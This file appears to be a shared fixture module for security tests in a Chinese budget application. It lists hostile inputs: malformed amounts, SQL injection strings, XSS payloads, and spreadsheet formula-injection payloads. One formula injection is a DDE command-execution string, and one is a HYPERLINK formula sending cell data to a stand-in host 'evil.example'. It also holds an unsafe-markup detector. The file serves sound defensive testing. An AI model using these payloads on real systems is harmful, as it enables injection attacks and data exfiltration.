/**
 * Hostile input, shared by the security tests: what an attacker, a broken client or a careless spreadsheet sends
 * instead of a budget figure, a code or a name. Each entry says what it is, so a failing test names the input.
 */
import { createHash } from 'node:crypto';

interface HostileValue<T = unknown> {
  what: string;
  value: T;
  /** A valid figure in 万元 (up to six decimals): control figures accept it. */
  validWan?: boolean;
}

/** Amounts typed in 元 that must be refused (with a Chinese message), never stored as anything. */
export const HOSTILE_AMOUNTS: HostileValue<string | number>[] = [
  { what: '1e308 (exponent notation)', value: '1e308' },
  { what: '1e308 as a JSON number', value: 1e308 },
  { what: 'sixteen full-width nines (more than the largest amount)', value: '９９９９９９９９９９９９９９９９' },
  { what: 'two decimal points and stray commas', value: '1,2,3.4.5' },
  { what: 'a double minus', value: '--5' },
  { what: 'hexadecimal', value: '0x10' },
  { what: 'Infinity', value: 'Infinity' },
  { what: 'Infinity as a JSON number', value: Number.POSITIVE_INFINITY },
  { what: 'NaN', value: 'NaN' },
  { what: 'NaN as a JSON number', value: Number.NaN },
  { what: '10,000 digits', value: '9'.repeat(10_000) },
  { what: '10,000 characters of text', value: 'x'.repeat(10_000) },
  { what: 'three decimals', value: '12.345', validWan: true },
  { what: 'a negative with three decimals', value: '-0.001' },
  { what: 'a negative', value: '-5' },
  { what: 'a float artefact as a JSON number', value: 0.1 + 0.2 },
  { what: 'SQL in an amount', value: "1; DROP TABLE basic_lines; --" },
  { what: 'the largest safe integer', value: String(Number.MAX_SAFE_INTEGER) },
  { what: 'a null byte', value: '12\u0000' },
  { what: 'a leading plus sign and letters', value: '+12abc' },
];

/** 功能科目 that are not a 项 of the year's book. */
export const HOSTILE_FUNCTION_CODES: HostileValue<string>[] = [
  { what: 'an unknown 项', value: '2089998' },
  { what: 'a 类 where a 项 is needed', value: '208' },
  { what: 'a 款 where a 项 is needed', value: '20801' },
  { what: 'eight digits', value: '20801011' },
  { what: 'full-width digits', value: '２０８０１０１' },
  { what: 'SQL', value: "2080101' OR '1'='1" },
  { what: 'markup', value: '<script>alert(1)</script>' },
  { what: 'a code of the economic book', value: '30101' },
  { what: 'empty', value: '' },
];

/** 部门经济科目 that are not a 款 of the year's book. */
export const HOSTILE_ECONOMIC_CODES: HostileValue<string>[] = [
  { what: 'an unknown 款', value: '39998' },
  { what: 'a 类 where a 款 is needed', value: '301' },
  { what: 'seven digits', value: '3010101' },
  { what: 'a functional code', value: '2080101' },
  { what: 'letters', value: 'abcde' },
];

/** Markup that must come out as text wherever a name or text is shown. */
export const XSS_PAYLOADS: HostileValue<string>[] = [
  { what: 'a script element', value: '<script>alert(1)</script>' },
  { what: 'an attribute break-out with an event handler', value: '"><img src=x onerror=alert(1)>' },
  { what: 'a javascript: URL', value: 'javascript:alert(document.cookie)' },
  { what: 'an SVG with onload', value: '<svg onload=alert(1)>' },
  { what: 'a closing textarea/style break-out', value: '</style></textarea><script>alert(2)</script>' },
  { what: 'an iframe with a javascript: src', value: '<iframe src="javascript:alert(3)"></iframe>' },
];

/**
 * The live markup in rendered HTML that could run script: elements that load or run code, event-handler attributes
 * and javascript: URLs. Text is escaped by React (`<` becomes `&lt;`), so every literal `<` starts a real element:
 * a payload that was rendered inert shows up only as escaped text and is not found here.
 */
export function unsafeMarkup(html: string): string[] {
  const found: string[] = [];
  for (const m of html.matchAll(/<\/?([a-zA-Z][\w:-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g)) {
    const [tag, name, attrs] = m;
    if (/^(script|iframe|frame|object|embed|img|base|meta|link|form)$/i.test(name)) {
      found.push(tag);
      continue;
    }
    for (const a of attrs.matchAll(/([^\s=/>"']+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+))?/g)) {
      const attr = a[1].toLowerCase();
      const value = (a[2] ?? '').replace(/^["']|["']$/g, '').replace(/&#x?[0-9a-f]+;|\s/gi, '');
      if (attr.startsWith('on') || (/^(href|src|xlink:href|action|formaction)$/.test(attr) && /^javascript:/i.test(value))) found.push(tag);
    }
  }
  return found;
}

/** Texts a spreadsheet program would evaluate as a formula (CSV/formula injection). */
export const FORMULA_PAYLOADS: HostileValue<string>[] = [
  { what: 'DDE command execution', value: "=cmd|' /C calc'!A0" },
  { what: 'a leading plus', value: '+1+1' },
  { what: 'an at-function', value: '@SUM(1)' },
  { what: 'a leading minus', value: '-2+3' },
  { what: 'a hyperlink formula', value: '=HYPERLINK("http://evil.example/?x="&A1,"点击")' },
  { what: 'a full-width equals sign', value: '＝1+1' },
  { what: 'a tab before the formula', value: '\t=1+1' },
];

/** Deterministic pseudo-random bytes (so a failure can be reproduced). */
export function pseudoRandomBytes(n: number, seed = 0x2024): Uint8Array {
  const out = new Uint8Array(n);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

/**
 * A digest of every row of every table (rowid order), to prove a refused input changed nothing at all. Takes the
 * better-sqlite3 connection (`db.$client`).
 */
export function databaseDigest(sqlite: { prepare(sql: string): { all(): unknown[] } }): string {
  const h = createHash('sha256');
  const tables = sqlite
    .prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name")
    .all() as { name: string }[];
  for (const { name } of tables) {
    h.update(`\u0000${name}\u0000`);
    for (const row of sqlite.prepare(`SELECT * FROM "${name}" ORDER BY rowid`).all())
      h.update(JSON.stringify(row, (_k, v) => (Buffer.isBuffer(v) ? v.toString('base64') : typeof v === 'bigint' ? String(v) : v)));
  }
  return h.digest('hex');
}

/** True when a message is meant for people here: it has Chinese characters. */
export const isChinese = (s: string | null | undefined): boolean => typeof s === 'string' && /[\u4e00-\u9fff]/.test(s);
